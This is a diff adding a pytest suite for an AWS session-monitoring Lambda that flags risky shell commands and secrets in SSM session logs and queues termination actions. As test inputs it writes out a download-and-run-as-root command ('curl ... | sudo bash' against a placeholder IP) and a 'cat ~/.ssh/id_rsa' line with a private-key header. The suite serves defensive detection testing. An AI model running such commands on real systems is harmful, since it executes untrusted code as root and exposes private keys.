@@ -1,0 +1,259 @@
+"""The command watch through functions/command_monitor/app.py, against the moto server.
+
+Payloads are built here the way CloudWatch Logs builds them (gzip + base64 of the subscription JSON).
+"""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+import pytest
+
+from functions.command_monitor import app
+from functions.session_events import app as events_app
+from ssm_warden.audit import read_audit
+from ssm_warden.clients import aws_client, reset_clients
+from ssm_warden.config import reset_settings
+from ssm_warden.ledger.dynamo import from_item
+from ssm_warden.ledger.keys import session_key
+from ssm_warden.models.actions import ActionKind, ActionRequest, Mode
+from ssm_warden.models.audit import Decision
+from ssm_warden.monitor.judging import batch_judge
+from ssm_warden_local.resources import LocalStack
+from tests.conftest import ACCOUNT, REGION, LambdaContext, load_event
+from tests.unit.logs.builders import SESSION_ID, log_event, payload, session_payload, streamed
+
+PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
+RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
+
+
+@pytest.fixture(autouse=True)
+def _fresh_judges() -> None:
+    batch_judge.cache_clear()
+
+
+def invoke(event: dict[str, Any]) -> dict[str, Any]:
+    result: dict[str, Any] = app.lambda_handler(event, LambdaContext())
+    return result
+
+
+def start_session(tags: dict[str, str], session_id: str = SESSION_ID) -> None:
+    """A StartSession event for a target with these tags, through the ledger's own function."""
+    ec2 = aws_client("ec2")
+    instance = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
+    ec2.create_tags(Resources=[instance], Tags=[{"Key": k, "Value": v} for k, v in tags.items()])
+    event = copy.deepcopy(load_event("start_session_shell.json"))
+    event["detail"]["requestParameters"]["target"] = instance
+    event["detail"]["responseElements"]["sessionId"] = session_id
+    assert events_app.lambda_handler(event, LambdaContext())["status"] == "applied"
+
+
+def queued(stack: LocalStack) -> list[ActionRequest]:
+    """Every action request waiting on the action queue (received and deleted)."""
+    sqs = aws_client("sqs")
+    out: list[ActionRequest] = []
+    while True:
+        response = sqs.receive_message(
+            QueueUrl=stack.queues["ActionQueue"], MaxNumberOfMessages=10, WaitTimeSeconds=0
+        )
+        messages = response.get("Messages", [])
+        if not messages:
+            return out
+        for message in messages:
+            out.append(ActionRequest.model_validate_json(message["Body"]))
+            sqs.delete_message(QueueUrl=stack.queues["ActionQueue"], ReceiptHandle=message["ReceiptHandle"])
+
+
+def item(session_id: str = SESSION_ID) -> dict[str, Any]:
+    response = aws_client("dynamodb").get_item(
+        TableName=LocalStackNames.sessions, Key={"pk": {"S": session_key(ACCOUNT, REGION, session_id)}}
+    )
+    return from_item(response["Item"]) if "Item" in response else {}
+
+
+class LocalStackNames:
+    sessions = ""
+
+
+@pytest.fixture(autouse=True)
+def _names(request: pytest.FixtureRequest) -> None:
+    if "stack" in request.fixturenames:
+        LocalStackNames.sessions = request.getfixturevalue("stack").tables["SessionsTable"]
+
+
+def test_a_risky_command_in_a_prod_session_queues_one_action_with_the_finding(stack: LocalStack) -> None:
+    # Given a session on a prod host, known to the ledger
+    start_session({"Environment": "prod"})
+    # When its log stream shows a download piped into a root shell among ordinary commands
+    result = invoke(
+        session_payload(
+            ["sh-4.2$ sh-4.2$ bash", f"{PROMPT}ls -la", "total 0"],
+            [f"{PROMPT}{RISKY}", "bash: line 1: 203.0.113.9: Connection refused"],
+        )
+    )
+    # Then exactly one action is queued: the prod policy terminates on this finding
+    actions = queued(stack)
+    assert len(actions) == 1
+    action = actions[0]
+    assert action.kind is ActionKind.TERMINATE
+    assert action.mode is Mode.ENFORCE
+    assert action.scope == "prod"
+    assert action.session is not None and action.session.session_id == SESSION_ID
+    assert action.session.target_tags == {"Environment": "prod"}
+    assert [f.command for f in action.findings] == [RISKY]
+    assert result["commands"] == 3
+    # And the decision is in the audit trail, and the counts are on the ledger item
+    assert any(r.decision is Decision.FINDING for r in read_audit(SESSION_ID))
+    assert item()["commands_seen"] == 3
+    assert item()["findings_seen"] >= 1
+
+
+def test_a_redelivered_batch_queues_nothing_more(stack: LocalStack) -> None:
+    # Given a batch with a risky command, processed once
+    start_session({"Environment": "prod"})
+    batch = session_payload([f"{PROMPT}{RISKY}"], [f"{PROMPT}id", "uid=1000"])
+    invoke(batch)
+    assert len(queued(stack)) == 1
+    audit_before = len(read_audit(SESSION_ID))
+    # When CloudWatch Logs delivers the same batch again
+    result = invoke(batch)
+    # Then it is recognised, nothing is queued and nothing is counted twice
+    assert result["status"] == "duplicate"
+    assert queued(stack) == []
+    assert len(read_audit(SESSION_ID)) == audit_before
+    assert item()["commands_seen"] == 2
+
+
+def test_a_command_split_across_two_invocations_is_judged_once(stack: LocalStack) -> None:
+    start_session({"Environment": "prod"})
+    # Given a first batch that ends in the middle of a command (a trailing backslash)
+    first = invoke(
+        session_payload([f"{PROMPT}ls", "a.txt", f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\"])
+    )
+    assert first["commands"] == 1
+    assert queued(stack) == []
+    # When the next batch brings the rest of it
+    second = invoke(session_payload(["> | sudo bash", "bash: connection refused", f"{PROMPT}id"], start=1))
+    # Then the whole command is judged once: one action, its finding quoting the joined command
+    actions = queued(stack)
+    assert len(actions) == 1
+    assert actions[0].findings[0].command == RISKY
+    assert second["commands"] == 2
+    assert item()["commands_seen"] == 3
+
+
+def test_last_output_is_recorded_at_most_once_a_minute(stack: LocalStack) -> None:
+    start_session({"Environment": "dev"})
+
+    def last_output() -> Any:
+        return item().get("last_output_at")
+
+    # Given a batch whose newest event is at t0 + 2 s
+    invoke(session_payload([f"{PROMPT}ls"], ["out"], ["out"], seconds=0))
+    first = last_output()
+    assert first == "2024-01-04T05:46:01Z"
+    # When more output arrives 30 s later, then 90 s later
+    invoke(session_payload(["more"], start=3, seconds=32))
+    after_30s = last_output()
+    invoke(session_payload(["more"], start=4, seconds=92))
+    # Then only the write a minute or more after the last one lands
+    assert after_30s == first
+    assert last_output() == "2024-01-04T05:47:31Z"
+
+
+def test_malformed_records_are_reported_and_the_rest_of_the_batch_is_processed(
+    stack: LocalStack, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
+) -> None:
+    start_session({"Environment": "prod"})
+    # Given a batch with broken events between good ones
+    event = payload(
+        [
+            log_event(0, streamed([f"{PROMPT}id"])),
+            log_event(1, '{"sessionData": ["cut short'),
+            {"id": "not-a-number", "timestamp": 0, "message": "x"},
+            log_event(2, streamed([f"{PROMPT}{RISKY}"])),
+        ]
+    )
+    # When it is handled
+    result = invoke(event)
+    # Then the broken records are reported (count, error log with where, metric) and skipped,
+    # and the good ones are judged: the risky command still leads to its action
+    assert result["malformed"] == 2
+    assert len(queued(stack)) == 1
+    errors = [r for r in caplog.records if r.getMessage() == "malformed session-log record skipped"]
+    assert [getattr(r, "where", "") for r in errors] == [
+        "logEvents[1] id=37000000000000000000000000000000000000000000000000000001",
+        "logEvents[2] id=not-a-number",
+    ]
+    assert '"MalformedRecords":[2.0]' in capsys.readouterr().out
+
+
+def test_a_payload_that_cannot_be_read_is_rejected_not_retried(stack: LocalStack) -> None:
+    result = invoke({"awslogs": {"data": "%%% not base64 %%%"}})
+    assert result["status"] == "rejected"
+    assert result["malformed"] == 1
+
+
+def test_control_messages_are_acknowledged(stack: LocalStack) -> None:
+    assert invoke(payload([], message_type="CONTROL_MESSAGE", stream=""))["status"] == "control"
+
+
+def test_a_session_unknown_to_the_ledger_is_judged_with_the_facts_its_log_carries(
+    stack: LocalStack, caplog: pytest.LogCaptureFixture
+) -> None:
+    # Given log events of a session whose StartSession event has not arrived
+    result = invoke(session_payload([f"sh-4.2$ sh-4.2$ {RISKY}"]))
+    # Then it is judged under the policy with the target and principal from the log event
+    assert result["known_session"] is False
+    actions = queued(stack)
+    assert len(actions) == 1
+    assert actions[0].session is not None
+    assert actions[0].session.target_id == "i-0123456789abcdef0"
+    assert actions[0].session.principal_arn == "arn:aws:sts::123456789012:assumed-role/Admin/alice"
+    assert any("session unknown to the ledger" in r.getMessage() for r in caplog.records)
+    # And its extraction state is kept for the next batch (the ledger fills in the rest later)
+    assert item()["command_watch"]["last_event_id"]
+
+
+def test_a_failure_to_queue_raises_and_the_retry_delivers_the_action(
+    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    start_session({"Environment": "prod"})
+    batch = session_payload([f"{PROMPT}{RISKY}"])
+    # Given an action queue that cannot be reached
+    monkeypatch.setenv("ACTIONS_QUEUE_URL", stack.queues["ActionQueue"] + "-missing")
+    reset_settings()
+    # When the batch is handled, the invocation fails (Lambda will retry it)
+    with pytest.raises(Exception):  # noqa: B017 (the SDK's error, whatever its class)
+        invoke(batch)
+    assert "command_watch" not in item()
+    # And when the retry finds the queue again, the action is delivered once
+    monkeypatch.setenv("ACTIONS_QUEUE_URL", stack.queues["ActionQueue"])
+    reset_settings()
+    reset_clients()
+    assert invoke(batch)["actions"] == 1
+    assert len(queued(stack)) == 1
+
+
+def test_force_monitor_mode_turns_terminations_into_would_terminate(
+    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("FORCE_MONITOR_MODE", "true")
+    reset_settings()
+    start_session({"Environment": "prod"})
+    invoke(session_payload([f"{PROMPT}{RISKY}"]))
+    (action,) = queued(stack)
+    assert action.would_terminate
+
+
+def test_secrets_shown_on_screen_are_judged_by_the_output_rules(stack: LocalStack) -> None:
+    start_session({"Environment": "prod"})
+    key_line = "-----BEGIN RSA PRIVATE KEY-----"
+    expected = {f.rule for f in batch_judge(("default",)).detector.judge_output(key_line)}
+    assert expected, "the output rules flag a private key block"
+    # Given a private key printed by a command, among ordinary output
+    invoke(session_payload([f"{PROMPT}cat ~/.ssh/id_rsa", key_line, "MIIEowIBAAKCAQEA"], ["ls", "x"]))
+    # Then an action carries the output rules' finding, quoting the line shown on screen
+    on_screen = [f for a in queued(stack) for f in a.findings if f.command == key_line]
+    assert {f.rule for f in on_screen} == expected
